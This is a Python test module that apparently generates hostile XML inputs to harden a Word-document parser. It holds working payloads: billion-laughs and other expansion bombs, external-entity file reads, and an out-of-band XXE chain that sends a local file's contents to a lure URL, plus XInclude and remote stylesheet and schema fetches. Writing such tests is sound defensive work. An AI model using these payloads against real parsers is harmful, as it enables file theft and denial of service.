"""XML that swells, asks for files, nests without end, or lies about its letters."""

from __future__ import annotations

import random
from collections.abc import Iterator

from tests.hostile.kinds import ANY_BLAME, Blamed, Check, Hostile, form_or_blame
from tests.hostile.lures import FILE_URL, URL, kept
from tests.hostile.opened import BODY, parts, word

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_EMPTY = f"<w:document {_W}><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>"


def xml(chance: random.Random) -> Iterator[Hostile]:
    """Documents of hostile XML in the place of Word's."""
    for name, declared, used in _entities(chance):
        yield _body(
            f"XML of {name}", f"<!DOCTYPE w:document [{declared}]>" + _EMPTY % used, Blamed()
        )
    yield from _deep(chance)
    yield from _letters(chance)
    yield from _elsewhere()


def _entities(chance: random.Random) -> Iterator[tuple[str, str, str]]:
    levels = chance.randint(8, 30)
    laughs = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "lol">'
        for n in range(levels)
    )
    yield "a milliard laughs", laughs, f"&l{levels - 1};"
    yield "one long entity many times", f'<!ENTITY a "{"a" * 50_000}">', "&a;" * 50_000
    yield "an entity of itself", '<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;"
    yield "a file", f'<!ENTITY a SYSTEM "{FILE_URL}">', "&a;"
    yield "an address", f'<!ENTITY a SYSTEM "{URL}">', "&a;"
    yield "a DTD elsewhere", f'<!ENTITY % a SYSTEM "{URL}"> %a;', ""
    yield (
        "a file sent away",
        f'<!ENTITY % f SYSTEM "{FILE_URL}"><!ENTITY % a "<!ENTITY b SYSTEM \'{URL}?%f;\'>">%a;',
        "&b;",
    )
    yield "an unparsed entity", f'<!NOTATION n SYSTEM "x"><!ENTITY a SYSTEM "{URL}" NDATA n>', ""
    yield "attribute defaults", '<!ATTLIST w:p a CDATA "' + "x" * 10_000 + '">', ""
    yield "a deep content model", "<!ELEMENT a " + "(" * 5_000 + "b" + ")" * 5_000 + ">", ""
    yield "a device", '<!ENTITY a SYSTEM "file:///dev/zero">', "&a;"
    yield "a port of this machine", '<!ENTITY a SYSTEM "ftp://127.0.0.1:48219/a">', "&a;"


def _deep(chance: random.Random) -> Iterator[Hostile]:
    many = chance.randint(50_000, 150_000)
    yield _body("XML a hundred thousand deep", "<a>" * many)
    yield _body("XML that is deep and closed", "<a>" * 20_000 + "</a>" * 20_000)
    yield _body("XML of one huge attribute", f'<a b="{"x" * 12_000_000}"/>')
    yield _body(
        "XML of many attributes", "<a " + " ".join(f'b{n}="{n}"' for n in range(many)) + "/>"
    )
    yield _body("XML of many namespaces", _names(chance.randint(2_000, 9_000)))
    yield _body("XML of one huge comment", f"<a><!--{'x ' * 5_000_000}--></a>")
    yield _body("XML of huge white space", f"<a>{' ' * 15_000_000}</a>")
    yield _body("XML of instructions", "<?a b?>" * many + "<a/>")
    yield _body("XML of an open CDATA", f"<a><![CDATA[{'x' * 1_000_000}")
    yield _body("XML of references", f"<a>{'&#65;' * 500_000}</a>")
    yield _body("XML of a forbidden reference", "<a>&#xD800;&#0;&#xFFFE;</a>")
    yield _body("XML cut short", parts()[BODY][: chance.randrange(200, 60_000)])
    yield _body("XML with noise in it", _noise(chance), form_or_blame)


def _letters(chance: random.Random) -> Iterator[Hostile]:
    body = parts()[BODY].decode().partition("?>")[2]
    either = form_or_blame
    for said, real in (
        ("utf-16", "utf-8"), ("utf-8", "utf-16-le"), ("utf-7", "utf-8"), ("utf-7", "utf-7"),
        ("utf-16", "utf-16"), ("utf-32", "utf-32"), ("ebcdic-cp-us", "cp037"), ("klingon", "utf-8"),
        ("us-ascii", "utf-8"), ("utf-8", "utf-32"), ("iso-2022-jp", "utf-8"), ("hz", "utf-8"),
    ):  # fmt: skip
        data = f'<?xml version="1.0" encoding="{said}"?>{body}'.encode(real, "replace")
        yield _body(f"XML said to be {said} that is {real}", data, either)
    nul = chance.randrange(500, 20_000)
    yield _body("XML with a NUL", parts()[BODY][:nul] + b"\0" + parts()[BODY][nul:], either)
    yield _body(
        "XML behind two marks of order", b"\xef\xbb\xbf\xef\xbb\xbf" + parts()[BODY], either
    )
    yield _body("XML of version 9.9", parts()[BODY].replace(b"'1.0'", b"'9.9'", 1), either)
    yield _body("XML of bytes that are no UTF-8", b"<a>" + chance.randbytes(5_000) + b"</a>")


def _elsewhere() -> Iterator[Hostile]:
    """Other ways by which XML asks for more."""
    body = parts()[BODY]
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{FILE_URL}"/>'.encode()
    yield _kept("XInclude", {BODY: body.replace(b"</w:body>", include + b"</w:body>")})
    sheet = f'<?xml-stylesheet type="text/xsl" href="{URL}"?>'.encode()
    yield _kept("a style sheet", {BODY: body.replace(b"?>", b"?>" + sheet, 1)})
    schema = f' xsi:schemaLocation="a {URL}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    yield _kept(
        "a schema", {BODY: body.replace(b"<w:document", b"<w:document" + schema.encode(), 1)}
    )
    laughs = b'<!DOCTYPE a [<!ENTITY b "' + b"c" * 90_000 + b'">]><a>' + b"&b;" * 90_000 + b"</a>"
    for part in ("word/styles.xml", "word/settings.xml", "docProps/custom.xml", "word/header1.xml",
                 "word/_rels/document.xml.rels", "_rels/.rels", "[Content_Types].xml"):  # fmt: skip
        yield word(f"XML bomb in {part}", {part: laughs}, form_or_blame)


def _kept(name: str, changes: dict[str, bytes | None]) -> Hostile:
    return word(f"XML that asks for {name}", changes, lambda r: form_or_blame(r) and kept(r))


def _body(name: str, document: str | bytes, check: Check = ANY_BLAME) -> Hostile:
    data = document.encode() if isinstance(document, str) else document
    return word(
        name, {BODY: data}, lambda r: check(r) and kept(r), form=check is form_or_blame,
        blamed=isinstance(check, Blamed),
    )  # fmt: skip


def _names(count: int) -> str:
    return "".join(f'<n{n}:a xmlns:n{n}="urn:{n}">' for n in range(count))


def _noise(chance: random.Random) -> bytes:
    data = bytearray(parts()[BODY])
    for _ in range(chance.randint(1, 20)):
        data[chance.randrange(len(data))] = chance.randrange(256)
    return bytes(data)
